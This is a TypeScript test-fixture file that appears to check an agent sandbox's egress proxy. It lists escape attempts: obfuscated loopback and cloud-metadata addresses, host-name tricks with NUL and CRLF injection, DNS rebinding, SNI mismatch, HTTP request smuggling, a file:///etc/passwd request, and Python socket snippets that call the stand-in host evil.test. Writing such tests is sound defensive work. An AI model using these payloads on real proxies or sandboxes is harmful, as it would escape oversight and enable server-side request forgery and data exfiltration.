import { EVIL, METADATA, PRIVATE, PUBLIC, PUBLIC_V6, RESOLVER } from "./addresses.js";
import { ABSTRACT_SOCKET } from "./network-namespace.js";
import { BARE_PORT } from "./origin-servers.js";

/** What the rules of the sandbox under attack allow. */
export const ALLOWED = ["api.skerry.test", "*.files.skerry.test", "*.dns.skerry.test"];

/** One try to get out by what is sent to the proxy. */
export interface Attack {
  readonly title: string;
  /** Connections to the proxy; each a list of what is sent, an answer awaited after each. Latin-1. */
  readonly sends: readonly (readonly string[])[];
  /** What the last answer of every connection looks like. */
  readonly answer: RegExp;
  /** How many answers come at once. Left out: one. */
  readonly answers?: number;
  /** The line that the agent is told, which names the rule or says what is wrong. */
  readonly told?: string;
  /** What may be dialled for it, though nothing may be sent there. */
  readonly dials?: string;
  /** The only requests that may arrive anywhere. */
  readonly arrives?: readonly string[];
  /** Where it would get if the rules allowed it: that is tried, too. */
  readonly target?: string;
}

const connectTo = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
const get = (host: string, path = "/stolen", rest = "") =>
  `GET http://${host}${path} HTTP/1.1\r\nHost: ${host}\r\n${rest}\r\n`;
const SOCKS_HELLO = "\x05\x01\x00";
const socksTo = (host: string, port = 80) =>
  `\x05\x01\x00\x03${String.fromCharCode(host.length)}${host}${String.fromCharCode(port >> 8, port & 255)}`;
const insideTunnel = "GET /stolen HTTP/1.1\r\nHost: x\r\n\r\n";

/** Refused, in HTTP or in SOCKS. */
const REFUSED = /^(?:HTTP\/1\.1 403 |SOCKS reply 2$)/;
const BROKEN = /^(?:HTTP\/1\.1 40[03] |$)/;
const NOT_HTTP = "the request is not plain HTTP/1.1";
const PUBLIC_WEB = `${PUBLIC}:80`;

/** Asks for a host by CONNECT, by URL and over SOCKS. */
function everyWay(host: string): string[][] {
  const bare = host.replace(/^\[|\]$/g, "");
  return [[connectTo(`${host}:80`), insideTunnel], [get(host)], [SOCKS_HELLO, socksTo(bare), insideTunnel]];
}

const byAddress = (spelling: string, canonical: string, isDialable = true): Attack => ({
  title: `reaches ${canonical} as ${spelling}`,
  sends: everyWay(spelling),
  answer: REFUSED,
  told: `${canonical} is not allowed by rule sandbox.network.allowedIps`,
  ...(isDialable && { target: `${canonical === "0.0.0.0" ? "127.0.0.1" : canonical}:80` }),
});

export const ADDRESS_ATTACKS: readonly Attack[] = [
  byAddress("127.0.0.1", "127.0.0.1"),
  byAddress("127.0.0.9", "127.0.0.9"),
  byAddress("2130706433", "127.0.0.1"),
  byAddress("0x7f000001", "127.0.0.1"),
  byAddress("0x7f.1", "127.0.0.1"),
  byAddress("0177.0.0.1", "127.0.0.1"),
  byAddress("017700000001", "127.0.0.1"),
  byAddress("127.1", "127.0.0.1"),
  byAddress("0", "0.0.0.0"),
  byAddress("[::1]", "::1"),
  byAddress("[::ffff:127.0.0.1]", "127.0.0.1"),
  byAddress("[0:0:0:0:0:ffff:7f00:1]", "127.0.0.1"),
  byAddress("[64:ff9b::7f00:1]", "64:ff9b::7f00:1", false),
  byAddress("[2002:7f00:1::]", "2002:7f00:1::", false),
  byAddress(METADATA, METADATA),
  byAddress("2852039166", METADATA),
  byAddress("0xa9fea9fe", METADATA),
  byAddress("[::ffff:a9fe:a9fe]", METADATA),
  byAddress("[fd00:ec2::254]", "fd00:ec2::254", false),
  byAddress(PRIVATE, PRIVATE),
  byAddress("10.0x50505", PRIVATE),
  byAddress(EVIL, EVIL),
  byAddress(`[${PUBLIC_V6}]`, PUBLIC_V6),
  {
    title: "reaches an address in SOCKS' own form",
    sends: [
      [SOCKS_HELLO, "\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50", insideTunnel],
      [SOCKS_HELLO, `\x05\x01\x00\x04${"\0".repeat(10)}\xff\xff\x7f\x00\x00\x01\x00\x50`, insideTunnel],
    ],
    answer: REFUSED,
    told: "127.0.0.1 is not allowed by rule sandbox.network.allowedIps",
    target: "127.0.0.1:80",
  },
];

const notAllowed = (host: string) => `${host} is not allowed by rule sandbox.network.allowedDomains`;

const byName = (what: string, name: string, told = notAllowed(name), target = `${EVIL}:80`): Attack => ({
  title: `passes off another host as an allowed one by ${what}`,
  sends: everyWay(name),
  answer: REFUSED,
  told,
  target,
});
/** No name at all: no rule could allow it. */
const byNoName = (what: string, name: string, ways = everyWay(name)): Attack => ({
  title: `passes off another host as an allowed one by ${what}`,
  sends: ways,
  answer: /^(?:HTTP\/1\.1 40[03] |SOCKS reply 2$)/,
});

export const NAME_ATTACKS: readonly Attack[] = [
  byName("a name that begins like it", "api.skerry.test.evil.test"),
  byName("a name that ends like it", "notapi.skerry.test", undefined, PUBLIC_WEB),
  byName("a name that ends like a wildcard", "xfiles.skerry.test", undefined, PUBLIC_WEB),
  byName("the name above a wildcard", "files.skerry.test", undefined, PUBLIC_WEB),
  byName("a name below it", "www.api.skerry.test", undefined, PUBLIC_WEB),
  byName("a dash for a dot", "api-skerry.evil.test"),
  byName("letters of another script", "xn--pi-7kc.skerry.test", undefined, PUBLIC_WEB),
  byName("the name of the host itself", "localhost", undefined, "::1:80"),
  byNoName("letters of another script, as they are", "\xd0\xb0pi.skerry.test"),
  byNoName("user information", "api.skerry.test@evil.test"),
  byNoName("user information with a port", "api.skerry.test:80@evil.test"),
  byNoName("an empty user", "@evil.test"),
  byNoName("a NUL behind it", "api.skerry.test\0.evil.test"),
  byNoName("a NUL before it", "evil.test\0.api.skerry.test"),
  byNoName("a NUL in SOCKS", "evil.test\0api.skerry.test", [
    [SOCKS_HELLO, socksTo("evil.test\0api.skerry.test"), insideTunnel],
    [SOCKS_HELLO, socksTo("api.skerry.test\0"), insideTunnel],
  ]),
  byNoName("a percent sign", "evil.test%00.api.skerry.test"),
  byNoName("a hash", "evil.test#.api.skerry.test"),
  byNoName("a backslash", "evil.test\\.api.skerry.test"),
  byNoName("a line break", "api.skerry.test\r\nX: evil.test", [
    [connectTo("api.skerry.test\r\nX: evil.test:80"), insideTunnel],
    [SOCKS_HELLO, socksTo("api.skerry.test\r\nX: evil.test"), insideTunnel],
  ]),
  byNoName("an address with a zone", "[fe80::1%25lo]"),
  byNoName("a number as its last label", "api.skerry.test.1"),
];

const resolvesTo = (label: string, address: string): Attack => {
  const host = `${label}.dns.skerry.test`;
  return {
    title: `reaches ${address} by an allowed name that resolves to it (${label})`,
    sends: everyWay(host),
    answer: REFUSED,
    told: `${host} resolves to ${address} (`,
    ...(label !== "translated" && { target: `${address === "0.0.0.0" ? "127.0.0.1" : address}:80` }),
  };
};

export const RESOLUTION_ATTACKS: readonly Attack[] = [
  resolvesTo("loopback", "127.0.0.1"),
  resolvesTo("loopback9", "127.0.0.9"),
  resolvesTo("nowhere", "0.0.0.0"),
  resolvesTo("loopback6", "::1"),
  resolvesTo("mapped", "127.0.0.1"),
  resolvesTo("translated", "64:ff9b::7f00:1"),
  resolvesTo("metadata", METADATA),
  resolvesTo("mapped-metadata", METADATA),
  resolvesTo("private", PRIVATE),
  {
    title: "reaches one of many addresses of a name, all bad",
    sends: everyWay("all-bad.dns.skerry.test"),
    answer: REFUSED,
    told: "all-bad.dns.skerry.test resolves to ",
  },
  {
    title: "reaches a bad address that a name has besides a good one",
    sends: [[get("mixed.dns.skerry.test", "/hello")]],
    answer: /^HTTP\/1\.1 200 /,
    arrives: ["GET http://mixed.dns.skerry.test/hello"],
  },
];

/** A TLS ClientHello, made by Python where it is sent. */
const CLIENT_HELLO = (name: string) => `{hello:${name}}`;

const api = "api.skerry.test";
const apiTunnel = connectTo(`${api}:443`);
const apiPlainTunnel = connectTo(`${api}:80`);
const onlyWeb = (port: number) => `only HTTP and TLS may pass to port ${port} of ${api}`;
/** A fatal alert, "access denied", or just the end. */
const ALERT_OR_END = /^(?:TLS alert 49)?$/;
const inTls = (title: string, name: string, told: string): Attack => ({
  title,
  sends: [
    [apiTunnel, CLIENT_HELLO(name)],
    [SOCKS_HELLO, socksTo(api, 443), CLIENT_HELLO(name)],
  ],
  answer: ALERT_OR_END,
  told,
  dials: `${PUBLIC}:443`,
});
const rawIn = (title: string, port: number, bytes: string): Attack => ({
  title,
  sends: [
    [connectTo(`${api}:${port}`), bytes],
    [SOCKS_HELLO, socksTo(api, port), bytes],
  ],
  answer: /^$/,
  told: onlyWeb(port),
  dials: `${PUBLIC}:${port}`,
});

export const PROTOCOL_ATTACKS: readonly Attack[] = [
  inTls(
    "names another host in TLS than in CONNECT",
    "evil.skerry.test",
    `TLS in a tunnel to ${api} names evil.skerry.test (SNI)`,
  ),
  inTls("names no host in TLS", "", `TLS to ${api} has to name it (SNI), and names no host`),
  rawIn("speaks what is neither HTTP nor TLS to the port of HTTPS", 443, "\0\x01\x02attack"),
  rawIn("speaks what is neither HTTP nor TLS to the port of HTTP", 80, "\0\x01\x02attack"),
  rawIn("speaks what only looks like TLS", 443, "\x17\x03\x03\x00\x05hello"),
  {
    title: "speaks SSH to the port of HTTPS",
    sends: [
      [apiTunnel, "SSH-2.0-attack\r\n"],
      [SOCKS_HELLO, socksTo(api, 443), "SSH-2.0-attack\r\n"],
    ],
    answer: BROKEN,
    told: NOT_HTTP,
    dials: `${PUBLIC}:443`,
  },
  {
    title: "tells a Host other than the URL's",
    sends: [[`GET http://${api}/stolen HTTP/1.1\r\nHost: evil.test\r\n\r\n`]],
    answer: REFUSED,
    told: `the Host header is not for ${api}:80, where the request goes`,
  },
  {
    title: "tells a Host other than the tunnel's",
    sends: [
      [apiPlainTunnel, "GET /stolen HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
      [SOCKS_HELLO, socksTo(api), "GET /stolen HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
    ],
    answer: REFUSED,
    told: `the Host header is not for ${api}:80, where the request goes`,
    dials: PUBLIC_WEB,
  },
  {
    title: "tells a Host other than CONNECT's",
    sends: [[`CONNECT ${api}:80 HTTP/1.1\r\nHost: evil.test\r\n\r\n`]],
    answer: REFUSED,
    told: `the Host header is not for ${api}:80, where the tunnel goes`,
  },
  {
    title: "tells two Hosts",
    sends: [[`GET http://${api}/stolen HTTP/1.1\r\nHost: ${api}\r\nHost: evil.test\r\n\r\n`]],
    answer: /^HTTP\/1\.1 400 /,
    told: "a request needs one Host header",
  },
  {
    title: "tells two Hosts for a tunnel",
    sends: [[`CONNECT ${api}:80 HTTP/1.1\r\nHost: ${api}:80\r\nHost: ${api}:80\r\n\r\n`]],
    answer: /^HTTP\/1\.1 400 /,
    told: "a request needs one Host header",
  },
  {
    title: "asks for another host inside a tunnel",
    sends: [[apiPlainTunnel, get("evil.test")]],
    answer: REFUSED,
    told: `the request is for evil.test:80, the connection for ${api}:80`,
    dials: PUBLIC_WEB,
  },
  {
    title: "opens a tunnel inside a tunnel",
    sends: [[apiPlainTunnel, connectTo("evil.test:80")]],
    answer: REFUSED,
    told: "there is no tunnel inside a tunnel",
    dials: PUBLIC_WEB,
  },
  {
    title: "upgrades to HTTP/2 and out of sight",
    sends: [
      [
        get(
          api,
          "/stolen",
          "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
        ),
      ],
    ],
    answer: /^HTTP\/1\.1 501 /,
  },
  {
    title: "begins HTTP/2 by knowing that it is there",
    sends: [[apiPlainTunnel, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"]],
    answer: BROKEN,
    told: NOT_HTTP,
    dials: PUBLIC_WEB,
  },
  {
    title: "asks for a port that no rule names",
    sends: [
      [connectTo(`${api}:${BARE_PORT}`)],
      [SOCKS_HELLO, socksTo(api, BARE_PORT)],
      [get(`${api}:${BARE_PORT}`)],
    ],
    answer: REFUSED,
    told: `port ${BARE_PORT} of ${api} is not allowed by rule sandbox.network.allowedPorts`,
    target: `${PUBLIC}:${BARE_PORT}`,
  },
  {
    title: "uses SOCKS for UDP, for listening, or in its older version",
    sends: [
      [SOCKS_HELLO, `\x05\x03\x00\x01\x7f\x00\x00\x35\x00\x35`],
      [SOCKS_HELLO, "\x05\x02\x00\x01\x05\x05\x05\x05\x00\x50"],
      ["\x04\x01\x00\x50\x05\x05\x05\x05user\0"],
    ],
    answer: /^(?:HTTP\/1\.1 400 |SOCKS reply 7$|$)/,
  },
];

const smuggled = "GET http://api.skerry.test/smuggled HTTP/1.1\r\nHost: api.skerry.test\r\n\r\n";
/** `mayBegin`: what is wrong comes to light in the body, when its request may be on its way. */
const smuggling = (what: string, rest: string, mayBegin = false): Attack => ({
  title: `smuggles a request by ${what}`,
  sends: [
    [`POST http://${api}/cover HTTP/1.1\r\nHost: ${api}\r\n${rest}${smuggled}`],
    [apiPlainTunnel, `POST /cover HTTP/1.1\r\nHost: ${api}\r\n${rest}${smuggled}`],
  ],
  answer: BROKEN,
  ...(!mayBegin && { told: NOT_HTTP }),
  dials: PUBLIC_WEB,
  ...(mayBegin && { arrives: [`POST http://${api}/cover`] }),
});

export const REQUEST_ATTACKS: readonly Attack[] = [
  smuggling("two kinds of length", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
  smuggling(
    "two kinds of length, the other way round",
    "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
  ),
  smuggling("two lengths", "Content-Length: 0\r\nContent-Length: 90\r\n\r\n"),
  smuggling("a length with a sign", "Content-Length: +0\r\n\r\n"),
  smuggling("a length in hex", "Content-Length: 0x0\r\n\r\n"),
  smuggling("a list of lengths", "Content-Length: 0, 90\r\n\r\n"),
  smuggling("a folded header", "X-A: b\r\n Content-Length: 0\r\n\r\n"),
  smuggling("a line that ends in LF only", "X-A: b\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
  smuggling("an encoding that is nearly chunked", "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", true),
  smuggling("an encoding after chunked", "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
  smuggling("a space before the colon", "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"),
  smuggling("a NUL in a header", "X-A: a\0b\r\nContent-Length: 0\r\n\r\n"),
  smuggling("a CR in a header", "X-A: a\rTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n"),
  smuggling("a chunk whose size is none", "Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n", true),
  smuggling("a chunk longer than its size", "Transfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n", true),
  {
    title: "changes the host on a kept connection",
    sends: [[get(api, "/hello"), get("evil.test")]],
    answer: REFUSED,
    told: notAllowed("evil.test"),
    arrives: [`GET http://${api}/hello`],
  },
  {
    title: "hides a request to another host behind an allowed one",
    sends: [[`${get(api, "/hello")}${get("evil.test")}`]],
    answer: /^HTTP\/1\.1 200 [\s\S]*HTTP\/1\.1 403 /,
    answers: 2,
    told: notAllowed("evil.test"),
    arrives: [`GET http://${api}/hello`],
  },
  {
    title: "asks for a file or another scheme",
    sends: [
      ["GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"],
      ["GET ftp://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
    ],
    answer: /^HTTP\/1\.1 40[03] /,
  },
];

/** Programs that leave the proxy aside. Each prints what it reached; without a sandbox they reach it. */
export interface DirectAttack {
  readonly title: string;
  readonly code: string;
}

export const DIRECT_ATTACKS: readonly DirectAttack[] = [
  {
    title: "connects to the host's loopback, its addresses or any host without the proxy",
    code: `
for host in ${JSON.stringify(["127.0.0.1", "127.0.0.9", "::1", PUBLIC, PUBLIC_V6, EVIL, METADATA, PRIVATE])}:
    try: socket.create_connection((host, 80), timeout=2).close(); print("reached", host)
    except OSError: pass`,
  },
  {
    title: "asks the name server itself",
    code: `
question = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06stolen\\x04evil\\x04test\\0\\0\\x01\\0\\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(0.5)
    try: s.sendto(question, (${JSON.stringify(RESOLVER)}, 53)); s.recv(512); print("reached the name server")
    except OSError: pass`,
  },
  {
    title: "has names resolved by the system",
    code: `
for name in ("api.skerry.test", "stolen.evil.test"):
    try: print("reached", socket.getaddrinfo(name, 80)[0][4][0])
    except OSError: pass`,
  },
  {
    title: "opens a raw socket",
    code: `
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try: socket.socket(family, kind, protocol).close(); print("reached", family)
    except OSError: pass`,
  },
  {
    title: "connects to a Unix socket of the host",
    code: `
with socket.socket(socket.AF_UNIX) as s:
    # Node fills the name up.
    for name in ("${ABSTRACT_SOCKET}", "${ABSTRACT_SOCKET}".ljust(107, "\\0")):
        try: s.connect("\\0" + name); print("reached", s.recv(100))
        except OSError: pass`,
  },
];
